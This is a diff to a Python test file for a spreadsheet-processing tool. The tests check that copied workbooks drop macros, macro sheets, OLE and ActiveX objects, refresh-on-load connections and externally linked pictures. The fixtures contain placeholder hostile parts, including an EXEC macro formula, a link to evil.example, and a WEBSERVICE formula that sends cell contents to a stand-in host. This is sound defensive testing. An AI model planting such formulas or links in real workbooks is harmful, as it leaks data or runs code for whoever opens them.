@@ -18,11 +18,19 @@ from openpyxl.worksheet.datavalidation import DataValidation
 from openpyxl.worksheet.formula import ArrayFormula
 from openpyxl.worksheet.table import Table, TableColumn, TableFormula
 
+from bulkvm.outcomes import Outcome, Status
 from bulkvm.readers import read_sheet
 from bulkvm.reports.annotated import write_annotated
 from bulkvm.reports.own_reach import reaches_out
+from bulkvm.reports.result import write_result
 from bulkvm.validation import validate
+from tests.reports.test_results import RUN
 
+MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
+OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
+DRAWN = "http://schemas.openxmlformats.org/drawingml/2006/spreadsheetDrawing"
+ART = "http://schemas.openxmlformats.org/drawingml/2006/main"
+SHEETS_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml"
 SHEETS = frozenset({"boxes", "my sheet", "o'neil", "sheet2", "sheet3"})
 REACHING = (
     '=WEBSERVICE("http://x.example/?"&C2)',
@@ -228,3 +236,128 @@ def test_a_formula_that_reaches_out_in_a_column_that_is_read_is_refused_again(tm
 
     assert formulas(copy) == {"=LEN(B2)", "=Boxes!B2"}
     assert [(p.cell, p.code) for p in validate(read_sheet(copy)).problems if p.is_error] == [("B3", "cell-refused")]
+
+
+def add_parts(file: Path) -> None:
+    """Add what openpyxl does not: programs, objects, controls, links of pictures, queries, outer pivot sources."""
+    parts = {
+        "xl/vbaProject.bin": "evil macro",
+        "xl/macrosheets/sheet1.xml": f'<macrosheet xmlns="{MAIN}"><sheetData><row r="1"><c r="A1"><f>EXEC("evil")</f>'
+        "</c></row></sheetData></macrosheet>",
+        "xl/embeddings/oleObject1.bin": "evil object",
+        "xl/activeX/activeX1.xml": "<evil/>",
+        "xl/activeX/activeX1.bin": "evil control",
+        "xl/ctrlProps/ctrlProp1.xml": '<formControlPr macro="evil"/>',
+        "xl/connections.xml": f'<connections xmlns="{MAIN}"><connection id="1"'
+        ' name="evil" refreshOnLoad="1"/></connections>',
+        "xl/queryTables/queryTable1.xml": f'<queryTable xmlns="{MAIN}"'
+        ' name="evil" connectionId="1" refreshOnLoad="1"/>',
+        "xl/pivotCache/pivotCacheDefinition1.xml": f'<pivotCacheDefinition xmlns="{MAIN}" refreshOnLoad="1">'
+        '<cacheSource type="external" connectionId="1"/><cacheFields count="0"/></pivotCacheDefinition>',
+        "xl/pivotTables/pivotTable1.xml": f'<pivotTableDefinition xmlns="{MAIN}"'
+        ' name="evil" cacheId="1" dataCaption="x">'
+        '<location ref="K1:L2" firstHeaderRow="1" firstDataRow="1" firstDataCol="1"/></pivotTableDefinition>',
+        "xl/pivotTables/_rels/pivotTable1.xml.rels": relations(
+            ("pivotCacheDefinition", "/xl/pivotCache/pivotCacheDefinition1.xml")
+        ),
+        "xl/drawings/drawing1.xml": f'<xdr:wsDr xmlns:xdr="{DRAWN}" xmlns:a="{ART}"'
+        f' xmlns:r="{OFFICE}"><xdr:oneCellAnchor>'
+        '<xdr:from><xdr:col>1</xdr:col><xdr:colOff>0</xdr:colOff><xdr:row>9</xdr:row><xdr:rowOff>0</xdr:rowOff></xdr:from>'
+        '<xdr:ext cx="9525" cy="9525"/>'
+        '<xdr:pic><xdr:nvPicPr><xdr:cNvPr id="2" name="evil"/><xdr:cNvPicPr/></xdr:nvPicPr>'
+        '<xdr:blipFill><a:blip r:link="x1"/></xdr:blipFill><xdr:spPr/></xdr:pic><xdr:clientData/></xdr:oneCellAnchor>'
+        "</xdr:wsDr>",
+        "xl/drawings/_rels/drawing1.xml.rels": relations(("image", "http://evil.example/x.png")).replace(
+            "/>", ' TargetMode="External"/>'
+        ),
+        "xl/worksheets/_rels/sheet1.xml.rels": relations(
+            ("drawing", "/xl/drawings/drawing1.xml"),
+            ("oleObject", "/xl/embeddings/oleObject1.bin"),
+            ("control", "/xl/activeX/activeX1.xml"),
+            ("ctrlProp", "/xl/ctrlProps/ctrlProp1.xml"),
+            ("queryTable", "/xl/queryTables/queryTable1.xml"),
+            ("pivotTable", "/xl/pivotTables/pivotTable1.xml"),
+        ),
+    }  # fmt: skip
+    with ZipFile(file) as archive:
+        old = {name: archive.read(name).decode() for name in archive.namelist()}
+    own = "xl/worksheets/_rels/sheet1.xml.rels"
+    parts[own] = old[own].replace("</Relationships>", parts[own].partition(">")[2])
+    sheet = old["xl/worksheets/sheet1.xml"]
+    inside = f'<drawing xmlns:r="{OFFICE}" r:id="x1"/>'
+    inside += f'<oleObjects xmlns:r="{OFFICE}"><oleObject progId="evil" shapeId="1" r:id="x2"/></oleObjects>'
+    inside += f'<controls xmlns:r="{OFFICE}"><control shapeId="2" r:id="x3" name="evil"/></controls>'
+    old["xl/worksheets/sheet1.xml"] = sheet.replace("</worksheet>", f"{inside}</worksheet>")
+    book = old["xl/workbook.xml"]
+    macros = f'<sheet xmlns:r="{OFFICE}" name="Macro1" sheetId="9" r:id="rId91"/></sheets>'
+    caches = f'<pivotCaches><pivotCache xmlns:r="{OFFICE}" cacheId="1" r:id="rId93"/></pivotCaches></workbook>'
+    old["xl/workbook.xml"] = book.replace("</sheets>", macros).replace("</workbook>", caches)
+    more = "".join(
+        f'<Relationship Id="rId9{n}" Type="{kind}" Target="/{target}"/>'
+        for n, kind, target in (
+            (0, "http://schemas.microsoft.com/office/2006/relationships/vbaProject", "xl/vbaProject.bin"),
+            (1, "http://schemas.microsoft.com/office/2006/relationships/xlMacrosheet", "xl/macrosheets/sheet1.xml"),
+            (2, f"{OFFICE}/connections", "xl/connections.xml"),
+            (3, f"{OFFICE}/pivotCacheDefinition", "xl/pivotCache/pivotCacheDefinition1.xml"),
+        )
+    )
+    rels = "xl/_rels/workbook.xml.rels"
+    old[rels] = old[rels].replace("</Relationships>", f"{more}</Relationships>")
+    overrides = "".join(
+        f'<Override PartName="/{part}" ContentType="{kind}"/>'
+        for part, kind in (
+            ("xl/vbaProject.bin", "application/vnd.ms-office.vbaProject"),
+            ("xl/macrosheets/sheet1.xml", "application/vnd.ms-excel.macrosheet+xml"),
+            ("xl/connections.xml", f"{SHEETS_TYPE}.connections+xml"),
+            ("xl/queryTables/queryTable1.xml", f"{SHEETS_TYPE}.queryTable+xml"),
+            ("xl/pivotCache/pivotCacheDefinition1.xml", f"{SHEETS_TYPE}.pivotCacheDefinition+xml"),
+            ("xl/pivotTables/pivotTable1.xml", f"{SHEETS_TYPE}.pivotTable+xml"),
+            ("xl/drawings/drawing1.xml", "application/vnd.openxmlformats-officedocument.drawing+xml"),
+            ("xl/activeX/activeX1.xml", "application/vnd.ms-office.activeX+xml"),
+        )
+    )
+    types = old["[Content_Types].xml"].replace("</Types>", f"{overrides}</Types>")
+    if file.suffix == ".xlsm":
+        types = types.replace(f"{SHEETS_TYPE}.sheet.main+xml", "application/vnd.ms-excel.sheet.macroEnabled.main+xml")
+    old["[Content_Types].xml"] = types
+    with ZipFile(file, "w") as archive:
+        for name, text in {**old, **parts}.items():
+            archive.writestr(name, text)
+
+
+def relations(*targets: tuple[str, str]) -> str:
+    """A part's relations, x1 the first of them."""
+    each = "".join(
+        f'<Relationship Id="x{n}" Type="{OFFICE}/{kind}" Target="{target}"/>'
+        for n, (kind, target) in enumerate(targets, start=1)
+    )
+    return f'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{each}</Relationships>'
+
+
+@pytest.mark.parametrize("suffix", ["xlsx", "xlsm"])
+@pytest.mark.parametrize("as_result", [False, True])
+def test_programs_objects_queries_and_outer_pictures_are_in_no_copy(
+    tmp_path: Path, suffix: str, *, as_result: bool
+) -> None:
+    file = tmp_path / f"boxes.{suffix}"
+    harmless_workbook().save(file)
+    add_parts(file)
+    sheet = read_sheet(file, sheet="Boxes")
+    problems = validate(sheet).problems
+
+    if as_result:
+        outcomes = [Outcome(row=row, extension_number="", status=Status.INVALID) for row in (2, 3)]
+        copy = write_result(tmp_path / "copy.xlsx", sheet, outcomes, problems, RUN)
+    else:
+        copy = write_annotated(tmp_path / "copy.xlsx", sheet, problems)
+
+    with ZipFile(copy) as archive:
+        parts = {name: archive.read(name).decode(errors="replace") for name in archive.namelist()}
+    assert formulas(copy) == {"=LEN(B2)", "=Boxes!B2"}
+    # A formula of a macro sheet is text in a sheet of cells.
+    structure = {name: re.sub("<t( [^>]*)?>[^<]*</t>", "", text) for name, text in parts.items()}
+    assert not [name for name, text in structure.items() if "evil" in text or re.search("macro(sheet|Enabled)", text)]
+    assert not re.findall(
+        "vba|macrosheet|embedding|activeX|ctrlProp|connection|query|pivot", " ".join(parts), re.IGNORECASE
+    )
+    assert "".join(parts.values()).count('TargetMode="External"') == 1  # the address
